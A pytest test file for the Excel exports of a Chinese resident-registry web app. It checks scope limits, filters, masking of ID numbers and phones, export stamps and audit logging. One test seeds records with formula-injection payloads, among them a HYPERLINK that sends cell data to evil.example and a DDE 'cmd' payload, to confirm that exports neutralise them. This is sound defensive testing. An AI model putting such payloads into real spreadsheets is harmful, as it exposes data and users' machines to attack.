"""Excel exports: what the screen shows (scope, filters, masking), a stamp, an audit entry, and
never a formula."""

import datetime
import io
import re
import urllib.parse

import openpyxl
import pytest
import xlsxwriter.worksheet
from django.core.signals import request_finished
from django.db import close_old_connections
from django.utils import timezone

from conftest import login, valid_id
from minqing.core.models import AuditEntry
from minqing.core.xlsx import Column, Stamp, neutralise, write_xlsx, xlsx_response
from minqing.registry import services
from minqing.registry.models import Household, Organisation, Person, Place, Tag, TagTarget

PEOPLE_HEADER = [
    "姓名",
    "性别",
    "出生日期",
    "年龄",
    "公民身份号码",
    "联系电话",
    "民族",
    "与户主关系",
    "户号",
    "现住址",
    "户籍地址",
    "所属网格",
    "人员类别",
    "就业状况",
    "健康状况",
    "残疾等级",
    "党员",
]
FULL_PHONE = "13812345678"


def sheet(response):
    """The first worksheet of an .xlsx response (reading it to the end closes the stream)."""
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    data = response.getvalue()
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]


def data_rows(ws) -> list[tuple]:
    """Rows between the header and the blank row before the stamp."""
    rows = []
    for row in ws.iter_rows(min_row=2, values_only=True):
        if all(v is None for v in row):
            break
        rows.append(row)
    return rows


def stamp_lines(ws) -> list[str]:
    lines = [r[0] for r in ws.iter_rows(values_only=True) if r and isinstance(r[0], str)]
    return [line for line in lines if line.startswith(("导出人", "导出时间", "范围", "记录数"))]


def all_text(ws) -> str:
    return "\n".join(str(c.value) for row in ws.iter_rows() for c in row if c.value is not None)


@pytest.fixture
def li_si(grid_a_worker, household_a, tree):
    return services.person_create(
        acting_user=grid_a_worker,
        data={
            "name": "李四",
            "id_number": valid_id(2, datetime.date(1990, 1, 2), male=False),
            "phone": "13900001111",
            "household": household_a,
            "relation": "spouse",
            "grid": tree["grid_a"],
        },
    )


@pytest.fixture
def wang_wu(grid_b_worker, tree):
    """王五 in grid B, with a household of his own."""
    household = services.household_create(
        acting_user=grid_b_worker, data={"address": "人民路2号", "grid": tree["grid_b"]}
    )
    return services.person_create(
        acting_user=grid_b_worker,
        data={
            "name": "王五",
            "id_number": valid_id(3),
            "phone": "13700002222",
            "household": household,
            "relation": "head",
            "grid": tree["grid_b"],
        },
    )


# ------------------------------------------------------------- the people export


def test_people_export_has_chinese_headers_masked_numbers_and_a_stamp(
    client, grid_a_worker, zhang_san
):
    grid_a_worker.full_name = "网格员甲"
    grid_a_worker.save()
    login(client, grid_a_worker)
    before = timezone.now().replace(microsecond=0)
    response = client.get("/people/export.xlsx")
    day = timezone.localdate().strftime("%Y%m%d")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''" + urllib.parse.quote(f"人员台账-{day}.xlsx") in disposition
    assert response["Cache-Control"] == "no-store, private"
    ws = sheet(response)

    assert ws.title == "人员台账"
    assert [c.value for c in ws[1]] == PEOPLE_HEADER
    (row,) = data_rows(ws)
    got = dict(zip(PEOPLE_HEADER, row, strict=True))
    assert got["姓名"] == "张三" and got["性别"] == "男" and got["与户主关系"] == "户主"
    assert got["公民身份号码"] == "330188********0039"
    assert got["联系电话"] == "138****5678"
    assert got["出生日期"] == "1960-**-**"  # the date is the masked middle of the ID
    assert got["年龄"] == zhang_san.age()
    assert got["现住址"] == "人民路1号1幢101室" and got["所属网格"] == "东门社区第1网格"
    text = all_text(ws)
    assert zhang_san.id_number not in text and FULL_PHONE not in text

    exporter, at, scope, count = stamp_lines(ws)
    assert exporter == "导出人：网格员甲（grid_a）"
    stamped = datetime.datetime.strptime(at, "导出时间：%Y-%m-%d %H:%M:%S")
    stamped = timezone.make_aware(stamped)
    assert before <= stamped <= timezone.now() + datetime.timedelta(seconds=1)
    assert scope == "范围：东门社区第1网格；筛选条件：无"
    assert count == "记录数：1"
    assert "导出人：网格员甲（grid_a）" in ws.oddFooter.left.text


def test_people_export_honours_the_list_filters(client, grid_a_worker, zhang_san, li_si):
    login(client, grid_a_worker)
    for query, names in [
        ("q=zs", ["张三"]),
        ("q=李", ["李四"]),
        ("sex=F", ["李四"]),
        ("sex=X", ["张三", "李四"]),  # an unknown value is ignored, as on the list page
        ("age_min=60", ["张三"]),
        ("age_max=40", ["李四"]),
        ("node=330188001001001&q=zs", ["张三"]),
    ]:
        ws = sheet(client.get(f"/people/export.xlsx?{query}"))
        assert [r[0] for r in data_rows(ws)] == names, query
        page = client.get(f"/people/?{query}").content.decode()
        assert f"共 {len(names)} 条" in page, query
    # Grid B is not grid_a's (nor is a mistyped code): nothing, and the page says why — not
    # everyone, as if the filter had been applied. The lists and exports of each kind alike.
    for path in ("people", "households", "places", "orgs"):
        for code in ("330188001001002", "3301880010010099"):
            page = client.get(f"/{path}/?node={code}").content.decode()
            assert f"区划 {code} 不存在或不在您的管辖范围内" in page, (path, code)
            assert "张三" not in page and "李四" not in page
            ws = sheet(client.get(f"/{path}/export.xlsx?node={code}"))
            assert data_rows(ws) == [], (path, code)
            assert f"区划：{code}（不存在或不在范围内）" in stamp_lines(ws)[2]
    ws = sheet(client.get("/people/export.xlsx?q=zs&sex=M&age_min=60&age_max=80"))
    scope = stamp_lines(ws)[2]
    assert scope == "范围：东门社区第1网格；筛选条件：关键词“zs”，性别：男，年龄：60–80岁"


def test_people_export_shows_tags_and_a_tag_makes_a_ledger(client, grid_a_worker, zhang_san, li_si):
    disabled, empty_nest = Tag.objects.get(name="残疾"), Tag.objects.get(name="空巢")
    zhang_san.tags.set([disabled, empty_nest])
    login(client, grid_a_worker)
    response = client.get(f"/people/export.xlsx?tag={disabled.pk}")
    day = timezone.localdate().strftime("%Y%m%d")
    assert urllib.parse.quote(f"残疾台账-{day}.xlsx") in response["Content-Disposition"]
    ws = sheet(response)
    assert ws.title == "残疾台账"
    (row,) = data_rows(ws)
    assert row[0] == "张三" and row[PEOPLE_HEADER.index("人员类别")] == "空巢、残疾"
    assert "筛选条件：类别：残疾" in stamp_lines(ws)[2]


# ------------------------------------------------------------- scope


def test_each_worker_exports_only_their_own_grid(
    client, grid_a_worker, grid_b_worker, zhang_san, wang_wu
):
    login(client, grid_b_worker)
    ws = sheet(client.get("/people/export.xlsx"))
    assert [r[0] for r in data_rows(ws)] == ["王五"]
    assert "张三" not in all_text(ws) and "人民路1号" not in all_text(ws)
    assert stamp_lines(ws)[2].startswith("范围：东门社区第2网格")
    # a node outside the scope finds nothing (grid A's people least of all), as the list page
    ws = sheet(client.get("/people/export.xlsx?node=330188001001001"))
    assert data_rows(ws) == [] and "张三" not in all_text(ws)
    ws = sheet(client.get("/households/export.xlsx"))
    assert [r[2] for r in data_rows(ws)] == ["人民路2号"]


def test_the_community_and_county_export_everything_below_them(
    client, community_worker, county_officer, zhang_san, wang_wu
):
    for user, scope in [(community_worker, "东门社区"), (county_officer, "民安县")]:
        login(client, user)
        ws = sheet(client.get("/people/export.xlsx"))
        assert sorted(r[0] for r in data_rows(ws)) == ["张三", "王五"]
        assert stamp_lines(ws)[2].startswith(f"范围：{scope}；")


def test_an_outsider_gets_an_empty_file_like_the_empty_list(client, outsider, zhang_san):
    login(client, outsider)
    assert "共 0 条" in client.get("/people/").content.decode()
    for url in ("/people/export.xlsx", "/households/export.xlsx", "/places/export.xlsx"):
        ws = sheet(client.get(url))
        assert data_rows(ws) == [], url
        assert "张三" not in all_text(ws)
        assert stamp_lines(ws)[2] == "范围：无（未分配网格）；筛选条件：无"
    assert client.get("/audit/export.xlsx").status_code == 403
    assert client.get("/audit/").status_code == 403


@pytest.mark.parametrize(
    "url",
    [
        "/people/export.xlsx",
        "/households/export.xlsx",
        "/places/export.xlsx",
        "/orgs/export.xlsx",
        "/audit/export.xlsx",
        "/ledgers/",
    ],
)
def test_anonymous_users_are_sent_to_the_login_page(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/?next=")


# ------------------------------------------------------------- formulas


def test_no_cell_can_run_a_formula(client, grid_a_worker, zhang_san, tree, monkeypatch):
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A2,"点击")'
    Household.objects.filter(pk=zhang_san.household_id).update(address=hyperlink)
    Person.objects.filter(pk=zhang_san.pk).update(name="=cmd|' /C calc'!A0")
    place = services.simple_record_save(
        acting_user=grid_a_worker,
        model=Place,
        data={"name": "小卖部", "kind": "shop", "address": "人民路3号", "grid": tree["grid_a"]},
    )
    Place.objects.filter(pk=place.pk).update(
        name="@SUM(1+1)*cmd|' /C calc'!A0", address="+1+2", contact="-2+3", note="\t=1+1"
    )
    org = services.simple_record_save(
        acting_user=grid_a_worker,
        model=Organisation,
        data={"name": "志愿者协会", "kind": "association", "grid": tree["grid_a"]},
    )
    Organisation.objects.filter(pk=org.pk).update(name="  =2*3", note="\r=1+1")

    def refuse(*args, **kwargs):
        raise AssertionError("exports must never use write() or write_formula()")

    monkeypatch.setattr(xlsxwriter.worksheet.Worksheet, "write_formula", refuse)
    monkeypatch.setattr(xlsxwriter.worksheet.Worksheet, "write", refuse)
    login(client, grid_a_worker)
    cells = []
    for url in (
        "/people/export.xlsx",
        "/households/export.xlsx",
        "/places/export.xlsx",
        "/orgs/export.xlsx",
    ):
        ws = sheet(client.get(url))
        cells += [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    # "\r" is stored as Excel's escape _x000D_, which openpyxl does not decode
    values = {
        c.value.replace("_x000D_", "\r") if isinstance(c.value, str) else c.value for c in cells
    }
    for dangerous in (
        hyperlink,
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+2",
        "-2+3",
        "\t=1+1",
        "  =2*3",
        "\r=1+1",
    ):
        assert "'" + dangerous in values, dangerous
        assert dangerous not in values, dangerous
    for c in cells:
        if isinstance(c.value, str):
            assert c.data_type in ("s", "inlineStr") and c.value[:1] not in ("=", "+", "-", "@")


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+86 138") == "'+86 138"
    assert neutralise("-") == "'-"
    assert neutralise("@x") == "'@x"
    assert neutralise("\tx") == "'\tx"
    assert neutralise(" =x") == "' =x"
    assert neutralise("张三") == "张三" and neutralise("") == "" and neutralise(" a") == " a"
    assert neutralise("a=b") == "a=b"


# ------------------------------------------------------------- the audit trail


def test_every_export_writes_one_audit_entry(client, grid_a_worker, zhang_san, li_si, tree):
    login(client, grid_a_worker)
    sheet(client.get("/people/export.xlsx?q=zs&sex=M"))
    entry = AuditEntry.objects.get(action="export")
    assert entry.actor == grid_a_worker and entry.model == "registry.person"
    assert entry.object_repr == "人员台账（1条）"
    assert entry.changes["rows"] == [None, 1]
    assert entry.changes["filters"] == [None, "关键词“zs”，性别：男"]
    assert entry.changes["query"] == [None, "q=zs&sex=M"]
    assert entry.node == tree["grid_a"] and entry.ip == "127.0.0.1"
    sheet(client.get("/households/export.xlsx"))
    sheet(client.get("/places/export.xlsx"))
    assert AuditEntry.objects.filter(action="export").count() == 3
    assert AuditEntry.objects.filter(action="export", model="registry.household").get().changes[
        "rows"
    ] == [None, 1]


def test_the_audit_log_export_is_scoped_filtered_and_masked(
    client, grid_a_worker, county_officer, zhang_san
):
    login(client, grid_a_worker)
    assert client.get("/audit/export.xlsx").status_code == 403
    assert not AuditEntry.objects.filter(action="export").exists()
    login(client, county_officer)
    ws = sheet(client.get("/audit/export.xlsx?action=create"))
    assert [c.value for c in ws[1]] == [
        "时间",
        "操作人",
        "操作",
        "对象类型",
        "对象",
        "变更",
        "事由",
        "IP",
    ]
    rows = data_rows(ws)
    assert {r[2] for r in rows} == {"新增"} and {r[1] for r in rows} == {"grid_a"}
    person_row = next(r for r in rows if r[3] == "人员")
    assert person_row[4] == "张三" and "公民身份号码： → 330188********0039" in person_row[5]
    assert isinstance(person_row[0], datetime.datetime)
    text = all_text(ws)
    assert zhang_san.id_number not in text and FULL_PHONE not in text
    assert "筛选条件：操作：新增" in stamp_lines(ws)[2]
    entry = AuditEntry.objects.get(action="export")
    assert entry.model == "core.auditentry" and entry.changes["rows"] == [None, len(rows)]
    # The export's own entry reads in words too (was filters： → 无；rows： → 36).
    exports = data_rows(sheet(client.get("/audit/export.xlsx?action=export")))
    assert f"记录数： → {len(rows)}" in exports[0][5] and "筛选条件： → 操作：新增" in exports[0][5]


# ------------------------------------------------------------- households, places, ledgers


def test_households_places_and_organisations(client, grid_a_worker, zhang_san, tree):
    services.simple_record_save(
        acting_user=grid_a_worker,
        model=Place,
        data={
            "name": "东门菜市场",
            "kind": "market",
            "address": "人民路5号",
            "grid": tree["grid_a"],
            "contact": "赵六",
        },
    )
    poor = Tag.objects.get(name="低保", target=TagTarget.HOUSEHOLD)
    Household.objects.get(pk=zhang_san.household_id).tags.add(poor)
    login(client, grid_a_worker)
    ws = sheet(client.get("/households/export.xlsx?housing=own"))
    assert [c.value for c in ws[1]] == [
        "户号",
        "户主",
        "现住址",
        "网格",
        "楼栋",
        "人口数",
        "住房性质",
        "面积(m²)",
        "居住类型",
        "家庭类别",
    ]
    (row,) = data_rows(ws)
    assert row[1] == "张三" and row[5] == 1 and row[6] == "自有" and row[9] == "低保"
    assert "住房性质：自有" in stamp_lines(ws)[2]
    assert data_rows(sheet(client.get("/households/export.xlsx?housing=rent"))) == []

    ws = sheet(client.get("/places/export.xlsx?kind=market"))
    assert ws.title == "场所台账"
    assert [c.value for c in ws[1]][:4] == ["名称", "类型", "地址", "所属网格"]
    assert data_rows(ws)[0][:5] == ("东门菜市场", "市场", "人民路5号", "东门社区第1网格", "赵六")
    assert data_rows(sheet(client.get("/places/export.xlsx?kind=school"))) == []
    assert sheet(client.get("/orgs/export.xlsx")).title == "组织台账"


def test_the_ledgers_page_lists_every_care_group_with_its_size_in_scope(
    client, grid_a_worker, county_officer, zhang_san, wang_wu
):
    destitute = Tag.objects.get(name="特困", target=TagTarget.PERSON)
    poor = Tag.objects.get(name="零就业家庭", target=TagTarget.HOUSEHOLD)
    zhang_san.tags.add(destitute)
    wang_wu.tags.add(destitute)
    Household.objects.get(pk=zhang_san.household_id).tags.add(poor)
    login(client, grid_a_worker)
    html = client.get("/ledgers/").content.decode()
    assert f'href="/people/export.xlsx?tag={destitute.pk}"' in html
    assert f'href="/households/export.xlsx?tag={poor.pk}"' in html
    counts = dict(
        re.findall(r'<span class="tag">(.+?)</span>.*?<a href="[^"]+">(\d+)</a>', html, re.S)
    )
    assert len(counts) == Tag.objects.count()  # every care group, even an empty one
    assert (counts["特困"], counts["孤儿"], counts["零就业家庭"]) == ("1", "0", "1")
    ws = sheet(client.get(f"/households/export.xlsx?tag={poor.pk}"))
    assert ws.title == "零就业家庭台账" and len(data_rows(ws)) == 1
    ws = sheet(client.get(f"/people/export.xlsx?tag={destitute.pk}"))
    assert [r[0] for r in data_rows(ws)] == ["张三"]
    login(client, county_officer)
    html = client.get("/ledgers/").content.decode()
    counts = dict(
        re.findall(r'<span class="tag">(.+?)</span>.*?<a href="[^"]+">(\d+)</a>', html, re.S)
    )
    assert (counts["特困"], counts["孤儿"], counts["零就业家庭"]) == ("2", "0", "1")
    assert "范围：民安县</p>" in html
    assert 'href="/ledgers/"' in client.get("/").content.decode()


def test_a_household_group_holds_each_household_once_by_its_own_tag_or_a_members(
    client, grid_a_worker, county_officer, zhang_san, tree
):
    """低保 on household A and on two of its members, and on one member of household B: two
    households, each listed and counted once (on the list, in the ledger, in the export)."""
    from minqing.registry import selectors

    low = Tag.objects.get(name="低保", target=TagTarget.HOUSEHOLD)
    home = Household.objects.get(pk=zhang_san.household_id)
    other = services.household_create(
        acting_user=grid_a_worker, data={"address": "人民路2号", "grid": tree["grid_a"]}
    )
    home.tags.add(low)
    for seq, household in ((11, home), (12, other)):
        member = services.person_create(
            acting_user=grid_a_worker,
            data={"name": f"成员{seq}", "id_number": valid_id(seq), "household": household,
                  "relation": "child", "grid": tree["grid_a"]},
        )  # fmt: skip
        member.tags.add(low)
    zhang_san.tags.add(low)
    bare = services.household_create(
        acting_user=grid_a_worker, data={"address": "人民路3号", "grid": tree["grid_a"]}
    )
    for user in (grid_a_worker, county_officer):
        found = list(selectors.household_search(user, tag=low))
        assert sorted(h.pk for h in found) == sorted([home.pk, other.pk]), user.username
        assert bare not in found
        login(client, user)
        html = client.get("/ledgers/").content.decode()
        counts = dict(
            re.findall(r'<span class="tag">(.+?)</span>.*?<a href="[^"]+">(\d+)</a>', html, re.S)
        )
        assert counts["低保"] == "2"
        page = client.get(f"/households/?tag={low.pk}")
        assert sorted(h.pk for h in page.context["page"]) == sorted([home.pk, other.pk])
        assert len(data_rows(sheet(client.get(f"/households/export.xlsx?tag={low.pk}")))) == 2


def test_list_pages_link_to_the_export_with_their_filters(client, county_officer, zhang_san):
    login(client, county_officer)
    for page, link in [
        ("/people/?q=zs&sex=M", "/people/export.xlsx?q=zs&amp;sex=M"),
        ("/households/?housing=own", "/households/export.xlsx?housing=own"),
        ("/places/?kind=shop&page=2", "/places/export.xlsx?kind=shop"),
        ("/orgs/", "/orgs/export.xlsx"),
        ("/audit/?action=create", "/audit/export.xlsx?action=create"),
    ]:
        html = client.get(page).content.decode()
        assert f'href="{link}"' in html and "导出Excel" in html, page
    partial = client.get(
        "/people/?q=zs", headers={"HX-Request": "true", "HX-Target": "results"}
    ).content.decode()
    assert 'href="/people/export.xlsx?q=zs"' in partial


# ------------------------------------------------------------- the writer


def test_the_writer_starts_a_new_sheet_at_the_row_limit(tmp_path):
    path = tmp_path / "big.xlsx"
    stamp = Stamp(exporter="县指挥中心", scope="民安县")
    rows = ([f"第{i}行", i, datetime.date(2020, 1, 1)] for i in range(25))
    columns = [Column("名称"), Column("序号"), Column("日期", kind="date")]
    count = write_xlsx(path, rows, columns=columns, title="测试/台账", stamp=stamp, max_rows=16)
    assert count == 25
    wb = openpyxl.load_workbook(path)
    assert [ws.title for ws in wb] == ["测试_台账", "测试_台账(2)", "测试_台账(3)"]
    numbers = [r[1] for ws in wb for r in data_rows(ws)]
    assert numbers == list(range(25))
    for ws in wb:
        assert ws.max_row <= 16 and [c.value for c in ws[1]] == ["名称", "序号", "日期"]
        assert stamp_lines(ws)[:3] == stamp.lines()
    assert stamp_lines(wb.worksheets[-1])[-1] == "记录数：25"


def test_the_response_streams_a_temporary_file_that_is_gone_after_sending():
    response = xlsx_response(
        iter([["a", 1.5, None, True]]),
        columns=[Column("甲"), Column("乙"), Column("丙"), Column("丁")],
        title="测试",
        filename="测试 台账.xlsx",
    )
    assert response.streaming and response.row_count == 1
    assert response["Content-Disposition"] == (
        "attachment; filename=\"export.xlsx\"; filename*=UTF-8''%E6%B5%8B%E8%AF%95%20"
        "%E5%8F%B0%E8%B4%A6.xlsx"
    )
    fh = response.file_to_stream
    ws = openpyxl.load_workbook(io.BytesIO(response.getvalue())).worksheets[0]
    assert [c.value for c in ws[2]] == ["a", 1.5, None, "是"]
    request_finished.disconnect(close_old_connections)  # as the test client does
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)
    assert fh.closed  # an anonymous TemporaryFile: closing it removes it


EDGES = ["-1", "9223372036854775808", "9" * 5_000, "²³", "٣", "x" * 10_000, "%FF", "%", "own"]


@pytest.mark.parametrize(
    "base, names",
    [
        ("/people/", ["q", "node", "tag", "age_min", "age_max", "sex"]),
        ("/households/", ["q", "node", "tag", "housing", "residence"]),
        ("/places/", ["q", "node", "kind"]),
        ("/audit/", ["action", "who"]),
    ],
)
def test_odd_filter_values_answer_the_export_as_they_answer_the_list(
    county_officer, zhang_san, base, names
):
    """The export parses its query exactly like its list page: same status for any value."""
    from django.test import Client

    client = Client(raise_request_exception=False)
    login(client, county_officer)
    for name in names:
        for value in EDGES:
            listed = client.get(f"{base}?{name}={value}")
            exported = client.get(f"{base}export.xlsx?{name}={value}")
            exported.getvalue()  # read to the end: the test client then closes it
            assert exported.status_code == listed.status_code, (name, value)


def test_the_ledgers_page_gives_the_scope_in_the_readers_language(client, county_officer, tree):
    from minqing.accounts.models import DataScope, Role, RoleAssignment, User

    clerk = User.objects.create_user(username="clerk", password="x-minqing-pw-1")
    RoleAssignment.objects.create(
        user=clerk, role=Role.COMMUNITY_WORKER, node=tree["community"], data_scope=DataScope.SELF
    )
    login(client, clerk)
    assert "本人录入的记录" in client.get("/ledgers/").content.decode()
    english = client.get("/ledgers/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Records I entered" in english and "本人录入的记录" not in english
    # The export's stamp stays Chinese, as its header row.
    ws = sheet(client.get("/people/export.xlsx", HTTP_ACCEPT_LANGUAGE="en"))
    assert any("本人录入的记录" in str(c) for row in ws.iter_rows(values_only=True) for c in row)
